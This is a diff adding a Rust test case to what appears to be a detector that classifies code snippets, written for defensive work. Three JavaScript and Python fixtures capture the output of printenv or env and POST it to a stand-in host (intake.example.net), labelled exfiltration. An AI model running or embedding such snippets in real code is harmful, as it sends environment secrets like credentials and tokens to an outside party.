@@ -8023,3 +8023,51 @@ fn a_runtime_object_member_set_keeps_the_object() {
     ];
     check_all(rows);
 }
+
+/// A call that returns what a shell command prints (`execSync`, `os.popen`, `check_output` with
+/// `shell=True`) takes the data the command prints: sending it sends that data. A command whose
+/// output reaches the terminal (`os.system`) is judged as printing it.
+#[test]
+fn a_shell_command_s_captured_output_carries_its_data() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const { execSync } = require('child_process');\nconst e = execSync('printenv', { encoding: 'utf8' });\nfetch('https://intake.example.net/b', { method: 'POST', body: e });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import os, requests\ne = os.popen('printenv').read()\nrequests.post('https://intake.example.net/b', data=e)\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import subprocess, requests\ne = subprocess.run('env | sort', shell=True, capture_output=True, text=True).stdout\nrequests.post('https://intake.example.net/b', data=e)\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // what a harmless command prints is no secret
+        (
+            Js,
+            "const { execSync } = require('child_process');\nconst sha = execSync('git rev-parse HEAD').toString().trim();\nconsole.log(sha);\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import subprocess\nv = subprocess.check_output('git describe --tags', shell=True, text=True)\nprint(v)\n",
+            Clean,
+            "",
+        ),
+        // printed to the terminal: the environment in the transcript
+        (
+            Py,
+            "import os\nos.system('printenv')\n",
+            Suspicious,
+            "exfiltration",
+        ),
+    ];
+    check_all(rows);
+}
